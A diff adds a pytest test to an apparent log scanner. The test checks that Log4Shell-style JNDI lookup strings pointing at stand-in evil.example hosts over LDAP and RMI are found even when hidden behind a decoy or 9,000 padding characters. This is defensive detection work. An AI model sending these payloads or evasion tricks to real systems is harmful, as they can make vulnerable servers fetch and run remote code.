@@ -136,6 +136,41 @@ def test_scan_logs_exit_codes_and_reports(tmp_path: Path) -> None:
     assert scan("logs", str(clean), "--tlp", "white").returncode == 2
 
 
+def test_scan_logs_finds_attempts_behind_a_decoy_or_a_long_run_of_backslashes(
+    tmp_path: Path,
+) -> None:
+    # Both hid the attempt from the 8,192 characters decoded after a line's first candidate.
+    evasive = tmp_path / "evasive.log"
+    decoy = "GET /?q=${x}" + " " * 9000 + "${jndi:ldap://decoy.evil.example:1389/a} 200\n"
+    escaped = '{"msg":"' + "\\" * 9000 + 'u0024{jndi:rmi://escaped.evil.example/b}"}\n'
+    evasive.write_text("GET / 200\n" + decoy + "GET / 200\n" + escaped)
+    done = scan("logs", str(evasive), "--format", "json")
+    assert done.returncode == 1, done.stderr
+    found = [
+        (f["line"], f["offset"], f["payload"], f["protocol"], f["host"], f["port"])
+        for f in json.loads(done.stdout)["findings"]
+    ]
+    text = evasive.read_text()
+    assert found == [
+        (
+            2,
+            text.index("${jndi"),
+            "${jndi:ldap://decoy.evil.example:1389/a}",
+            "ldap",
+            "decoy.evil.example",
+            1389,
+        ),
+        (
+            4,
+            text.index("\\"),
+            "${jndi:rmi://escaped.evil.example/b}",
+            "rmi",
+            "escaped.evil.example",
+            None,
+        ),
+    ]
+
+
 @pytest.fixture
 def served(database: Database, clock: FixedClock, shared_data: Path) -> Iterator[AdvisoryPlatform]:
     with advisory_platform(database, clock) as platform:
